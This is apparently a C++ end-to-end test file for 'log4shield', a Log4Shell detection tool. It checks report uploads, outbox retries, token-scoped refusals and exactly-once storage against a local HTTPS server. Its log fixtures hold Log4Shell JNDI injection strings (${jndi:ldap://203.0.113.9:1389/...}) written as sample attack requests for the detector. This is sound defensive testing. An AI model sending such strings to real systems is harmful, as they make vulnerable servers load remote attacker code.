// --upload and `fleet upload` against the real `fleet serve` over HTTPS with a
// test CA made by openssl: what the server stores, once; a refusal stores
// nothing; the outbox through an outage (issue 15's acceptance).
#include <signal.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <chrono>
#include <filesystem>
#include <fstream>
#include <regex>
#include <sstream>
#include <thread>

#include <gtest/gtest.h>

#include "fleet/store.h"
#include "shell.h"
#include "upload/test_http_server.h"
#include "upload/test_util.h"

namespace {

namespace stdfs = std::filesystem;
using l4s::test::run_shell;
using l4s::test::shell_quote;
const std::string kBin = L4S_BINARY;

std::string slurp(const std::string& p) {
  std::ifstream in(p, std::ios::binary);
  std::stringstream ss;
  ss << in.rdbuf();
  return ss.str();
}

size_t reports_in(const stdfs::path& dir) {
  size_t n = 0;
  std::error_code ec;
  for (const auto& e : stdfs::directory_iterator(dir, ec)) n += e.path().extension() == ".report";
  return n;
}

// `log4shield fleet serve` over HTTPS on a given loopback port.
class Serve {
 public:
  Serve(const stdfs::path& dir, const std::string& db, int port) : log_((dir / "serve.log").string()) {
    pid_ = fork();
    if (pid_ == 0) {
      freopen("/dev/null", "w", stdout);
      freopen(log_.c_str(), "w", stderr);
      const std::string listen = "127.0.0.1:" + std::to_string(port);
      const std::string cert = (dir / "server.pem").string(), key = (dir / "server.key").string();
      execl(kBin.c_str(), kBin.c_str(), "fleet", "serve", "--listen", listen.c_str(), "--db", db.c_str(), "--tls-cert",
            cert.c_str(), "--tls-key", key.c_str(), nullptr);
      _exit(127);
    }
    for (int i = 0; i < 200 && !ready_; ++i) {
      ready_ = slurp(log_).find("listening on https://") != std::string::npos;
      if (!ready_) std::this_thread::sleep_for(std::chrono::milliseconds(50));
    }
  }
  ~Serve() {
    kill(pid_, SIGTERM);
    waitpid(pid_, nullptr, 0);
  }
  bool ready() const { return ready_; }
  std::string log() const { return slurp(log_); }

 private:
  std::string log_;
  pid_t pid_ = -1;
  bool ready_ = false;
};

class UploadServeE2e : public ::testing::Test {
 protected:
  void SetUp() override {
    dir_ = l4s::test::scratch_dir();
    const std::string d = shell_quote(dir_.string());
    auto r = run_shell("cd " + d +
                       " && openssl ecparam -name prime256v1 -genkey -noout -out ca.key"
                       " && openssl req -x509 -new -key ca.key -days 2 -subj '/CN=upload test CA' -out ca.pem"
                       " && openssl ecparam -name prime256v1 -genkey -noout -out server.key"
                       " && openssl req -new -key server.key -subj '/CN=127.0.0.1' -out server.csr"
                       " && printf 'subjectAltName=IP:127.0.0.1\\n' > san.ext"
                       " && openssl x509 -req -in server.csr -CA ca.pem -CAkey ca.key -CAcreateserial -days 2"
                       " -extfile san.ext -out server.pem 2>&1");
    ASSERT_EQ(r.exit_code, 0) << r.out;
    db_ = (dir_ / "fleet.db").string();
    web_token_ = make_token("web", "web*");
    all_token_ = make_token("all", "*");
    outbox_ = (dir_ / "outbox").string();
    stdfs::create_directories(dir_ / "app");
    std::ofstream(dir_ / "app" / "readme.txt") << "nothing\n";
    std::ofstream(dir_ / "app.log") << "GET /${jndi:ldap://203.0.113.9:1389/a} HTTP/1.1\n";
    port_ = l4s::test::refused_port();
  }

  std::string make_token(const std::string& name, const std::string& hosts) {
    const std::string file = (dir_ / (name + ".token")).string();
    auto r = run_shell(kBin + " fleet token create --db " + shell_quote(db_) + " --name " + name +
                       " --role upload --hosts " + shell_quote(hosts) + " 2>/dev/null > " + shell_quote(file));
    EXPECT_EQ(r.exit_code, 0);
    chmod(file.c_str(), 0600);
    return file;
  }

  std::string url() const { return "https://127.0.0.1:" + std::to_string(port_); }
  std::string upload(const std::string& token) const {
    return " --upload " + url() + " --ca-cert " + shell_quote((dir_ / "ca.pem").string()) + " --token-file " +
           shell_quote(token) + " --outbox " + shell_quote(outbox_) + " --upload-attempts 2 --upload-backoff 0.01 ";
  }
  int run(const std::string& args) {
    const std::string err = (dir_ / "stderr.txt").string();
    auto r = run_shell(kBin + " " + args + " >/dev/null 2>" + shell_quote(err));
    err_ = slurp(err);
    return r.exit_code;
  }
  int64_t stored_reports() {
    auto store = l4s::fleet::Store::open(db_);
    EXPECT_TRUE(store.ok()) << store.error();
    if (!store.ok()) return -1;
    auto rows = (*store)->db().query("SELECT COUNT(*) FROM reports");
    EXPECT_TRUE(rows.ok());
    return rows.ok() ? std::stoll(*(*rows)[0][0]) : -1;
  }

  stdfs::path dir_;
  std::string db_, web_token_, all_token_, outbox_, err_;
  int port_ = 0;
};

TEST_F(UploadServeE2e, OutageThenTheOutboxIsDeliveredOnce) {
  const std::string app = shell_quote((dir_ / "app").string());
  // The server is down: the report waits.
  EXPECT_EQ(run("scan -q --format json --host-name web01 " + app + upload(web_token_)), 0) << err_;
  EXPECT_NE(err_.find("kept in"), std::string::npos) << err_;
  ASSERT_EQ(reports_in(outbox_), 1u);

  Serve serve(dir_, db_, port_);
  ASSERT_TRUE(serve.ready()) << serve.log();
  const std::string deliver = "fleet upload --server " + url() + " --ca-cert " +
                              shell_quote((dir_ / "ca.pem").string()) + " --token-file " + shell_quote(web_token_) +
                              " --outbox " + shell_quote(outbox_);
  EXPECT_EQ(run(deliver), 0) << err_;
  EXPECT_EQ(stored_reports(), 1);
  EXPECT_EQ(reports_in(outbox_), 0u);
  EXPECT_EQ(run(deliver), 0) << err_;
  EXPECT_EQ(stored_reports(), 1) << "a second delivery stores nothing new";

  // A live run is stored at once; the same saved report sent twice, once.
  const std::string saved = (dir_ / "saved.json").string();
  EXPECT_EQ(run("scan -q --format json --host-name web02 -o " + shell_quote(saved) + " " + app + upload(web_token_)),
            0)
      << err_;
  EXPECT_EQ(stored_reports(), 2);
  EXPECT_EQ(run("fleet upload --server " + url() + " --ca-cert " + shell_quote((dir_ / "ca.pem").string()) +
                " --token-file " + shell_quote(web_token_) + " " + shell_quote(saved)),
            0)
      << err_;
  EXPECT_NE(err_.find("already stored"), std::string::npos) << err_;
  EXPECT_EQ(stored_reports(), 2);

  // Outside the token's scope: refused for good, nothing stored, exit 2.
  EXPECT_EQ(run("scan -q --format json --host-name db01 " + app + upload(web_token_)), 2) << err_;
  EXPECT_NE(err_.find("HTTP 403"), std::string::npos) << err_;
  EXPECT_EQ(stored_reports(), 2);
  EXPECT_EQ(reports_in(stdfs::path(outbox_) / "rejected"), 1u);

  // hunt carries this machine's name in X-Log4shield-Host; attempts found stay exit 1.
  EXPECT_EQ(run("hunt --format text " + shell_quote((dir_ / "app.log").string()) + upload(all_token_)), 1) << err_;
  EXPECT_EQ(stored_reports(), 3) << err_;

  // Without the test CA the server is not trusted: nothing sent, the report waits.
  EXPECT_EQ(run("scan -q --format json --host-name web03 " + app + " --upload " + url() + " --token-file " +
                shell_quote(web_token_) + " --outbox " + shell_quote(outbox_) +
                " --upload-attempts 1"),
            0)
      << err_;
  EXPECT_NE(err_.find("certificate"), std::string::npos) << err_;
  EXPECT_EQ(stored_reports(), 3);
  EXPECT_EQ(reports_in(outbox_), 1u);
}


// hunt --follow --upload: detections reach the store while the follower
// runs, and a SIGKILL then a restart stores each of them exactly once.
TEST_F(UploadServeE2e, FollowUploadsBatchesExactlyOnceAcrossAKill) {
  Serve serve(dir_, db_, port_);
  const stdfs::path logs = dir_ / "live";
  stdfs::create_directories(logs);
  std::ofstream(logs / "access.log") << "";
  auto detections_stored = [&]() -> int64_t {
    auto store = l4s::fleet::Store::open(db_);
    if (!store.ok()) return -1;
    auto rows = (*store)->db().query("SELECT COUNT(*) FROM detections");
    return rows.ok() ? std::stoll(*(*rows)[0][0]) : -1;
  };
  auto wait_for = [&](int64_t n) {
    for (int i = 0; i < 200 && detections_stored() < n; ++i) std::this_thread::sleep_for(std::chrono::milliseconds(100));
    return detections_stored();
  };
  auto attack = [&](int i) {
    std::ofstream(logs / "access.log", std::ios::app)
        << "10.0.0." << i << " GET /?q=${jndi:ldap://203.0.113.9:1389/x" << i << "} HTTP/1.1\n";
  };
  const std::string follow_args = "hunt --follow " + shell_quote(logs.string()) + " --from-start --poll-interval 0.1" +
                                  " --state " + shell_quote((dir_ / "follow.state").string()) + " -o " +
                                  shell_quote((dir_ / "detections.jsonl").string()) + " --upload-interval 0.2" +
                                  upload(all_token_);
  auto start_follow = [&] {
    pid_t pid = fork();
    if (pid == 0) {
      execl("/bin/sh", "sh", "-c", ("exec " + kBin + " " + follow_args + " 2>" +
                                    shell_quote((dir_ / "follow.err").string())).c_str(), nullptr);
      _exit(127);
    }
    return pid;
  };
  pid_t follower = start_follow();
  for (int i = 1; i <= 3; ++i) attack(i);
  EXPECT_EQ(wait_for(3), 3) << slurp((dir_ / "follow.err").string());
  kill(follower, SIGKILL);
  waitpid(follower, nullptr, 0);
  for (int i = 4; i <= 5; ++i) attack(i);
  follower = start_follow();
  EXPECT_EQ(wait_for(5), 5) << slurp((dir_ / "follow.err").string());
  kill(follower, SIGTERM);
  int status = 0;
  waitpid(follower, &status, 0);
  EXPECT_TRUE(WIFEXITED(status) && WEXITSTATUS(status) == 0) << status;
  std::this_thread::sleep_for(std::chrono::milliseconds(300));
  EXPECT_EQ(detections_stored(), 5) << "each attempt stored once";
  EXPECT_EQ(reports_in(outbox_), 0u);
}

}  // namespace
